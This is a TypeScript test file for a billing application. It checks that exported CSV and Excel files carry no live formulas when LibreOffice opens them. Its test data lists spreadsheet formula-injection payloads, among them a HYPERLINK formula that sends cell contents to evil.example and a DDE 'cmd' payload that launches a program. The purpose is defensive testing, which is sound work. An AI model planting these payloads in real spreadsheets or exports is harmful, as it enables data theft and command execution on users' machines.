// Text that a spreadsheet would run, everywhere that text can come from: customers, plans, notes, ids, headings of usage files. Every
// file that people open is opened in LibreOffice, told to run formulas as Excel does: none came of text, and no number was changed.
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { REPORTS } from '../../../src-main/reports/report.ts';
import { giveEvidence } from '../../../src-main/services/evidence/evidence-pack.ts';
import { exportCharges } from '../../../src-main/services/exports/charges.ts';
import { writeBatchRejects } from '../../../src-main/services/files/rejects.ts';
import { reportFile } from '../../../src-main/services/files/report-output.ts';
import { writeRevenue } from '../../../src-main/services/files/revenue.ts';
import { writeStatements } from '../../../src-main/services/files/statements.ts';
import { writeTable } from '../../../src-main/services/files/table-file.ts';
import { closeMonth } from '../../../src-main/services/months.ts';
import { importUsage } from '../../../src-main/services/usage/import-usage.ts';
import { lastingFolder } from '../../support/folders/lasting-folder.ts';
import { savedByOffice, testWithOffice } from '../../support/libreoffice.ts';
import { partsOf } from '../../support/workbook-parts.ts';
import { bookWith, type CompanyBook, must } from '../company-book.ts';
import { COMPANY } from '../small-company.ts';

/** Each says EVIL where it would show, so that it is found again wherever it went. */
const EVIL = [
  '=1+1&"EVIL0"',
  '+1+1&"EVIL1"',
  '-1+1&"EVIL2"',
  '@SUM(1;1)&"EVIL3"',
  '=HYPERLINK("http://evil.example/?"&A1;"EVIL4")',
  '=cmd|\'/C calc\'!A0&"EVIL5"',
  '=DDE("soffice";"EVIL6";"A1")',
  '＝1+1&"EVIL7"',
  '"=1+1&""EVIL8"""',
  '\'=1+1&"EVIL9"',
] as const;
/** Codes may not hold + or |. */
const CODE = '=2*3&"EVILC"';

const quoted = (text: string): string => `"${text.replaceAll('"', '""')}"`;

async function evilBook(): Promise<CompanyBook> {
  const book = bookWith(COMPANY);
  must(
    book.load(`
customers
code  | name
${CODE} | =1*1&"EVILN"
${EVIL.map((text, n) => `e${n} | ${text.replaceAll('|', '!')}`).join('\n')}

grants
ref | date | customer | credit_type | credits | price | note
${EVIL.map((text, n) => `g${n} | 2026-01-02 | e${n} | credits | 10 | 7 | ${text.replaceAll('|', '!')}`).join('\n')}
=3*4&"EVILR" | 2026-01-02 | ${CODE} | credits | 10 | 7.5 | x
`),
  );
  const rows = EVIL.map((text, n) => `${quoted(text)},e${n},calls,5,2026-01-03,${quoted(text)}`);
  const bad = EVIL.map((text) => `${quoted(text)},${quoted(text)},calls,-5,2026-01-03,${quoted(text)}`);
  const ours = `${quoted(`${CODE}1`)},${quoted(CODE)},calls,60,2026-01-04,x`;
  const head = `event_id,customer,meter,quantity,occurred_at,${quoted(EVIL[0])}`;
  const path = book.file('evil.csv', `${[head, ...rows, ours, ...bad].join('\n')}\n`);
  const { rejected } = must(await importUsage(book.session, { path, profile: null, dryRun: false }));
  expect(rejected).toBe(EVIL.length);
  must(closeMonth(book.session, '2026-01'));
  return book;
}

/** Everything that is handed to people, into one folder. */
async function handOut(book: CompanyBook, out: string): Promise<void> {
  const { session } = book;
  mkdirSync(out);
  for (const { name } of REPORTS)
    for (const format of ['csv', 'xlsx'] as const)
      must(await reportFile(session, name, {}, format, join(out, `report-${name}.${format}`)));
  must(writeBatchRejects(session, 1, join(out, 'rejects.csv')));
  const columns = [
    { key: 'a', title: EVIL[0], type: 'text' as const },
    { key: 'b', title: 'Money', type: 'money' as const },
  ];
  const table = { name: 't', title: 'T', columns, rows: EVIL.map((text) => [text, '-5.00']) };
  for (const format of ['csv', 'xlsx'] as const)
    must(await writeTable(session, table, format, join(out, `table.${format}`)));
  must(
    await exportCharges(session, {
      month: '2026-01',
      file: join(out, 'charges.xlsx'),
      csv: join(out, 'charges.csv'),
    }),
  );
  must(await writeStatements(session, { month: '2026-01', folder: join(out, 'statements') }));
  must(await writeRevenue(session, { month: '2026-01' }, join(out, 'revenue.xlsx')));
  must(await giveEvidence(session, { month: '2026-01', out: join(out, 'evidence') }));
}

const filesBelow = (folder: string, ending: string): string[] =>
  readdirSync(folder, { recursive: true })
    .map((path) => join(folder, String(path)))
    .filter((path) => path.endsWith(ending));

/** Separator, quote, UTF-8, …, and last: formulas in text are run. */
const CSV = 'CSV:44,34,76,1,,1033,false,true,false,false,false,0,true';

/** The sheets of files, as LibreOffice saved them. */
function opened(
  folder: string,
  paths: readonly string[],
  infilter: string | null = null,
): Map<string, string> {
  return new Map(
    [...savedByOffice(folder, paths, infilter)].map(([path, saved]) => {
      const sheets = [...partsOf(saved)].filter(([name]) => name.startsWith('xl/worksheets/'));
      return [path, sheets.map(([, xml]) => xml).join('\n')];
    }),
  );
}

const formulasOf = (xml: string): string[] =>
  [...xml.matchAll(/<f[^>]*>([^<]*)<\/f>/g)].map(([, text]) => text!);

describe('formulas in text', () => {
  testWithOffice('LibreOffice runs what is not disarmed: or the tests below would prove nothing', () => {
    const folder = scratch();
    const path = join(folder, 'armed.csv');
    writeFileSync(path, 'a,b\n=1+1,-5.00\n');
    expect(formulasOf(opened(folder, [path], CSV).get(path)!)).toEqual(['1+1']);
  });

  testWithOffice('come out of no file that people open', async () => {
    const folder = scratch();
    const out = join(folder, 'out');
    await handOut(await evilBook(), out);
    const csv = filesBelow(out, '.csv');
    const workbooks = filesBelow(out, '.xlsx');
    expect(csv.length).toBeGreaterThan(18);
    expect(workbooks.length).toBeGreaterThan(20);
    for (const [path, xml] of opened(folder, csv, CSV))
      expect({ path, formulas: formulasOf(xml) }).toEqual({ path, formulas: [] });
    for (const [path, xml] of opened(folder, workbooks)) {
      const ran = formulasOf(xml).filter((formula) => /EVIL|evil|DDE|cmd/.test(formula));
      expect({ path, ran }).toEqual({ path, ran: [] });
    }
  });

  it('leave numbers alone, and rejected rows come back as they were', async () => {
    const book = await evilBook();
    const path = join(book.folder, 'back.csv');
    must(writeBatchRejects(book.session, 1, path));
    const text = readFileSync(path, 'utf8');
    expect(text).toContain(`"'=1+1&""EVIL0""","'=1+1&""EVIL0""",calls,-5,`);
    const again = must(await importUsage(book.session, { path, profile: null, dryRun: true }));
    expect(again.rejects.map(({ cells }) => cells[0])).toEqual(EVIL.map(String));
    expect(again.header[5]).toBe(EVIL[0]);
  });
});

const scratch = (): string => mkdtempSync(join(scratchRoot, 'run-'));
const scratchRoot = lastingFolder();
